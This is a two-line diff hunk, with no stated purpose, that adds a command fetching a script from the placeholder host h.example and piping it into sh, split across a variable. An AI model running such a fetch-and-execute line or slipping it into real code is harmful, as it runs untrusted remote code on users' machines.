@@ -1,0 +1,2 @@
+x="curl -s http://h.example/a"
+$x | sh
